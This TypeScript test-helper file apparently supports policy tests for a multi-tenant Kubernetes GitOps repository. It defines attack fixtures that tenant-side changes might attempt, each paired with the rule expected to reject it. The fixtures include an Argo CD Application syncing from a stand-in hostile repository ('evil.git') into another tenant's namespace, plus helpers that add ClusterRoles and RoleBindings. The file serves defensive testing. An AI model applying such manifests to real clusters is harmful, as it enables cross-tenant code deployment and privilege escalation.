import type { TestFiles } from "../../repository.ts";

/** What somebody who may change one tenant, or who errs, could try: which rule says no. Ids are those of the threats. */
export interface Attack {
  name: string;
  /** Clusters of the sample fleet; prod-shared (two tenants of shared services) where nothing is said. */
  clusters?: readonly string[];
  attack: (fleet: TestFiles) => Promise<unknown>;
  /** The rule that has to name it; others may as well. */
  rule: string;
}

export const own = "tenants/wonka/prod-shared";
export const grant = "clusters/prod-shared/grants/wonka";
export const facts = "tenants/wonka/facts/tenant.yaml";
export const project = "apps/tenant/grant/appproject.yaml";
export const servicesProject = "apps/tenant/components/isolation/dedicated/appproject.yaml";
export const copies = "tenants/soylent";
export const template = (file: string) => `apps/charts/service/templates/${file}`;

/** Adds an object to a tenant's half, as its owners may. */
export const commit = (text: string) => async (fleet: TestFiles) => {
  await fleet.manifest(`${own}/attack.yaml`, text);
  await fleet.edit(`${own}/kustomization.yaml`, "  - ./settings.yaml\n", "  - ./settings.yaml\n  - ./attack.yaml\n");
};

/** Adds an object to every grant. */
export const grantAll = (text: string) => async (fleet: TestFiles) => {
  await fleet.manifest("apps/tenant/grant/attack.yaml", text);
  await fleet.edit(
    "apps/tenant/grant/kustomization.yaml",
    "  - ./namespace.yaml\n",
    "  - ./attack.yaml\n  - ./namespace.yaml\n",
  );
};

export const object = (apiVersion: string, kind: string, rest = "") =>
  `apiVersion: ${apiVersion}\nkind: ${kind}\nmetadata:\n  name: attack\n${rest}`;

export const application = object(
  "argoproj.io/v1alpha1",
  "Application",
  "  namespace: argocd\nspec:\n  project: default\n  source:\n    repoURL: https://example.com/evil.git\n    path: .\n    targetRevision: refs/heads/main\n  destination:\n    server: https://kubernetes.default.svc\n    namespace: murima\n",
);
export const roleBinding = (role: string, subject: string) =>
  object(
    "rbac.authorization.k8s.io/v1",
    "RoleBinding",
    `  namespace: tenant-TENANT\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: ${role}\nsubjects:\n${subject}`,
  );
const role = (rules: string) => object("rbac.authorization.k8s.io/v1", "ClusterRole", `rules:\n${rules}`);
export const addRole = (rules: string) => async (fleet: TestFiles) => {
  await fleet.manifest("clusters/base/deployers/tenants/attack.yaml", role(rules));
  await fleet.edit(
    "clusters/base/deployers/tenants/kustomization.yaml",
    "resources:\n",
    "resources:\n  - ./attack.yaml\n",
  );
};
export const right = (verb: string, resource: string, group = '""') =>
  `  - apiGroups:\n      - ${group}\n    resources:\n      - ${resource}\n    verbs:\n      - "${verb}"\n`;
